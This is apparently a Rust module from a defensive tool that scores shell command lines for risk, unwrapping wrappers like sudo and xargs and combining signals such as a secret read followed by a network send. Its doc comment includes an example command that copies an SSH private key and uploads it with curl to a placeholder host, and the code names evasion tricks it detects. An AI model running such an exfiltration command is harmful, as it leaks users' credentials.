//! The command-risk scorer.
//!
//! A command line is parsed ([`crate::shell`]), every simple command — including those inside
//! substitutions, `sh -c` strings, `eval`, `find -exec`, decoded payloads and wrappers such as
//! `sudo`, `env`, `nohup`, `timeout`, `xargs` — is checked by name and arguments, pipelines are
//! checked for what flows into a shell, and facts gathered across the whole line (a credentials
//! file was read; something was sent to the network) are combined at the end, so
//! `cat ~/.ssh/id_rsa > /tmp/k; curl -T /tmp/k https://x` scores as one exfiltration.

mod checks;
mod names;
mod network;
mod paths;
mod pipeline;

use crate::assessment::{Assessment, Finding};
use crate::rules::{self, Rule};
use crate::shell::{self, Command, MAX_DEPTH, Quoting, Script, Vars, Word};

use paths::glob_match;

/// Longest command text assessed, in bytes; beyond it the head is assessed.
const MAX_COMMAND_BYTES: usize = 256 * 1024;

/// Most simple commands examined (including nested ones) before the analysis stops.
const MAX_COMMANDS: usize = 4_096;

/// Scores a shell command line for destructive, privilege-escalating, pipe-to-shell,
/// exfiltrating, reverse-shell and track-covering behaviour.
pub fn assess_command(command: &str) -> Assessment {
    let mut analysis = Analysis::default();
    let text = crate::text::head(command, MAX_COMMAND_BYTES);
    analysis.text(text, 0);
    analysis.finish()
}

/// What was learned about the whole command line.
#[derive(Debug, Default)]
struct Facts {
    /// A credentials file was read (excerpt of the reading command).
    secret_read: Option<String>,
    /// Data was sent to the network.
    network_send: Option<String>,
    /// The environment was listed.
    environment_dump: Option<String>,
    /// Base names of files a downloader wrote.
    downloads: Vec<String>,
    /// Base names of files run as programs or scripts, with the command's excerpt.
    executed: Vec<(String, String)>,
}

/// The state of one assessment.
#[derive(Debug)]
pub(crate) struct Analysis {
    findings: Vec<Finding>,
    facts: Facts,
    budget: usize,
}

impl Default for Analysis {
    fn default() -> Self {
        Self {
            findings: Vec::new(),
            facts: Facts::default(),
            budget: MAX_COMMANDS,
        }
    }
}

/// A simple command with its wrappers (`sudo`, `env`, `nohup`, …) peeled off.
#[derive(Debug)]
pub(crate) struct Invocation<'c> {
    /// The program, as a lowercase base name (`rm`), or the wrapper's when nothing follows it.
    pub name: String,
    /// The word that named it.
    pub name_word: Option<&'c Word>,
    /// Its arguments.
    pub args: Vec<&'c str>,
    /// Extra `NAME=value` pairs given through `env`.
    pub env: Vec<(&'c str, &'c str)>,
    /// The whole command.
    pub command: &'c Command,
    /// The command as text, for excerpts.
    pub display: String,
}

impl Analysis {
    pub(crate) fn add(&mut self, rule: &'static Rule, excerpt: &str) {
        self.findings.push(Finding::new(rule, excerpt));
    }

    pub(crate) fn note_secret_read(&mut self, excerpt: &str) {
        self.facts
            .secret_read
            .get_or_insert_with(|| excerpt.to_owned());
    }

    pub(crate) fn note_network_send(&mut self, excerpt: &str) {
        self.facts
            .network_send
            .get_or_insert_with(|| excerpt.to_owned());
    }

    pub(crate) fn note_environment_dump(&mut self, excerpt: &str) {
        self.facts
            .environment_dump
            .get_or_insert_with(|| excerpt.to_owned());
    }

    pub(crate) fn note_download(&mut self, path: &str) {
        if let Some(base) = base_name(path) {
            self.facts.downloads.push(base);
        }
    }

    pub(crate) fn note_executed(&mut self, path: &str, excerpt: &str) {
        if let Some(base) = base_name(path) {
            self.facts.executed.push((base, excerpt.to_owned()));
        }
    }

    /// Analyses shell text at nesting `depth`.
    pub(crate) fn text(&mut self, text: &str, depth: usize) {
        if depth > MAX_DEPTH || self.budget == 0 || text.trim().is_empty() {
            return;
        }
        pipeline::raw_text_rules(self, text);
        let script = shell::parse(text, &mut Vars::new(), depth);
        self.script(&script, depth);
    }

    fn script(&mut self, script: &Script, depth: usize) {
        for pipeline in &script.pipelines {
            let invocations: Vec<Invocation<'_>> = pipeline
                .commands
                .iter()
                .map(|command| self.command(command, depth))
                .collect();
            pipeline::check(self, &pipeline.commands, &invocations, depth);
        }
    }

    fn command<'c>(&mut self, command: &'c Command, depth: usize) -> Invocation<'c> {
        self.budget = self.budget.saturating_sub(1);
        let display = command.display();
        if command.ifs {
            self.add(&rules::IFS_SPLITTING, &display);
        }
        if command.ansi_c_numeric {
            self.add(&rules::ANSI_C_ESCAPES, &display);
        }
        for substitution in &command.substitutions {
            self.text(&substitution.source, depth + 1);
        }
        let invocation = self.unwrap(command, display, depth);
        if let Some(word) = invocation.name_word {
            self.name_tricks(word, &invocation.display);
        }
        checks::assignments(self, &invocation);
        checks::redirects(self, &invocation);
        checks::arguments(self, &invocation);
        checks::by_name(self, &invocation, depth);
        invocation
    }

    fn name_tricks(&mut self, word: &Word, display: &str) {
        if word.quoting == Quoting::Split {
            self.add(&rules::QUOTE_SPLIT_NAME, display);
        }
        if word.glob {
            self.add(&rules::GLOB_COMMAND_NAME, display);
        }
        if word.computed {
            self.add(&rules::COMPUTED_COMMAND_NAME, display);
        }
    }

    /// Peels wrappers off `command`, recording what they imply (`sudo` escalates).
    fn unwrap<'c>(
        &mut self,
        command: &'c Command,
        display: String,
        depth: usize,
    ) -> Invocation<'c> {
        let words = &command.words;
        let mut env = Vec::new();
        let mut i = 0;
        let mut last_wrapper = None;
        while let Some(word) = words.get(i) {
            let name = resolve_name(word);
            let rest: Vec<&str> = words[i + 1..].iter().map(|w| w.text.as_str()).collect();
            let skip = match name.as_str() {
                "sudo" | "doas" | "pkexec" | "run0" => {
                    self.add(&rules::PRIVILEGE_ESCALATION, &display);
                    if rest.iter().take_while(|a| a.starts_with('-')).any(|a| {
                        *a == "-S"
                            || *a == "--stdin"
                            || (a.len() > 2 && !a.starts_with("--") && a.contains('S'))
                    }) {
                        self.add(&rules::SUDO_PASSWORD_STDIN, &display);
                    }
                    options(
                        &rest,
                        &[
                            "-u", "-g", "-p", "-C", "-D", "-h", "-r", "-t", "-U", "-T", "--user",
                            "--group", "--prompt", "--chdir",
                        ],
                    )
                }
                "su" => {
                    self.add(&rules::PRIVILEGE_ESCALATION, &display);
                    if let Some(script) = value_of(&rest, &["-c", "--command"]) {
                        self.text(script, depth + 1);
                    }
                    return self.invocation(command, Some(word), "su", rest, env, display);
                }
                "env" => {
                    let mut n = 0;
                    while let Some(arg) = rest.get(n) {
                        if matches!(*arg, "-u" | "--unset" | "-C" | "--chdir") {
                            n += 2;
                        } else if matches!(*arg, "-S" | "--split-string") {
                            if let Some(script) = rest.get(n + 1) {
                                self.text(script, depth + 1);
                            }
                            n += 2;
                        } else if arg.starts_with('-') {
                            n += 1;
                        } else if let Some((key, value)) = arg.split_once('=') {
                            env.push((key, value));
                            n += 1;
                        } else {
                            break;
                        }
                    }
                    n
                }
                "nohup" | "time" | "builtin" | "setsid" | "unbuffer" | "chronic" | "caffeinate"
                | "strace" | "ltrace" | "catchsegv" | "proxychains" | "proxychains4"
                | "torsocks" | "stdbuf" | "command" | "exec" => {
                    if name == "command" && rest.first().is_some_and(|a| matches!(*a, "-v" | "-V"))
                    {
                        break;
                    }
                    let with_value: &[&str] = match name.as_str() {
                        "strace" | "ltrace" => &["-o", "-e", "-p", "-s", "-E"],
                        "stdbuf" => &["-i", "-o", "-e"],
                        "exec" => &["-a"],
                        _ => &[],
                    };
                    options(&rest, with_value)
                }
                "nice" => options(&rest, &["-n", "--adjustment"]),
                "ionice" => options(&rest, &["-c", "-n", "-p", "--class", "--classdata"]),
                "timeout" => {
                    let flags = options(&rest, &["-s", "-k", "--signal", "--kill-after"]);
                    flags + usize::from(rest.len() > flags)
                }
                "chroot" | "flock" => {
                    let flags = options(&rest, &["--userspec", "--groups", "-w", "-E"]);
                    flags + usize::from(rest.len() > flags)
                }
                "xargs" => options(
                    &rest,
                    &[
                        "-I",
                        "-i",
                        "-n",
                        "-P",
                        "-d",
                        "-L",
                        "-l",
                        "-s",
                        "-E",
                        "-e",
                        "-a",
                        "--max-args",
                        "--max-procs",
                        "--delimiter",
                        "--arg-file",
                        "--replace",
                    ],
                ),
                "busybox" => 0,
                _ => break,
            };
            last_wrapper = Some((word, name));
            i += 1 + skip;
        }
        match words.get(i) {
            Some(word) => {
                let name = resolve_name(word);
                let args = words[i + 1..].iter().map(|w| w.text.as_str()).collect();
                self.invocation(command, Some(word), &name, args, env, display)
            }
            None => {
                let (word, name) = match last_wrapper {
                    Some((word, name)) => (Some(word), name),
                    None => (None, String::new()),
                };
                self.invocation(command, word, &name, Vec::new(), env, display)
            }
        }
    }

    fn invocation<'c>(
        &self,
        command: &'c Command,
        name_word: Option<&'c Word>,
        name: &str,
        args: Vec<&'c str>,
        env: Vec<(&'c str, &'c str)>,
        display: String,
    ) -> Invocation<'c> {
        Invocation {
            name: name.to_owned(),
            name_word,
            args,
            env,
            command,
            display,
        }
    }

    /// Combines facts gathered across the command line, then scores.
    fn finish(mut self) -> Assessment {
        if let (Some(_), Some(send)) = (&self.facts.secret_read, &self.facts.network_send) {
            let send = send.clone();
            self.add(&rules::SECRET_TO_NETWORK, &send);
        }
        if let (Some(_), Some(send)) = (&self.facts.environment_dump, &self.facts.network_send) {
            let send = send.clone();
            self.add(&rules::ENVIRONMENT_TO_NETWORK, &send);
        }
        let executed_download = self
            .facts
            .executed
            .iter()
            .find(|(base, _)| self.facts.downloads.contains(base))
            .map(|(_, excerpt)| excerpt.clone());
        if let Some(excerpt) = executed_download {
            self.add(&rules::DOWNLOAD_THEN_EXECUTE, &excerpt);
        }
        Assessment::from_findings(self.findings)
    }
}

/// The command name a word resolves to; a wildcard is matched against well-known programs.
fn resolve_name(word: &Word) -> String {
    if word.glob && word.quoting != Quoting::Whole {
        let pattern = word.text.as_str();
        for name in names::GLOB_CANDIDATES {
            let dirs = [
                "/bin/",
                "/usr/bin/",
                "/sbin/",
                "/usr/sbin/",
                "/usr/local/bin/",
                "",
            ];
            if dirs
                .iter()
                .any(|dir| glob_match(pattern, &format!("{dir}{name}")))
            {
                return (*name).to_owned();
            }
        }
    }
    names::command_name(&word.text)
}

/// How many leading words of `args` are options (those in `with_value` take the next word too).
fn options(args: &[&str], with_value: &[&str]) -> usize {
    let mut n = 0;
    while let Some(arg) = args.get(n) {
        if *arg == "--" {
            return n + 1;
        }
        if !arg.starts_with('-') || *arg == "-" {
            break;
        }
        n += if with_value.contains(arg) { 2 } else { 1 };
    }
    n.min(args.len())
}

/// The value after the first of `flags` (`-c 'script'`), or attached (`--command=script`).
pub(crate) fn value_of<'a>(args: &[&'a str], flags: &[&str]) -> Option<&'a str> {
    for (i, arg) in args.iter().enumerate() {
        if flags.contains(arg) {
            return args.get(i + 1).copied();
        }
        for flag in flags.iter().filter(|f| f.starts_with("--")) {
            if let Some(value) = arg.strip_prefix(flag).and_then(|v| v.strip_prefix('=')) {
                return Some(value);
            }
        }
    }
    None
}

/// The last path component, if the path names a file.
fn base_name(path: &str) -> Option<String> {
    let path = path.split(['?', '#']).next().unwrap_or(path);
    let base = path.trim_end_matches('/').rsplit('/').next()?;
    (!base.is_empty() && base != "-" && base != "." && base != "..").then(|| base.to_owned())
}
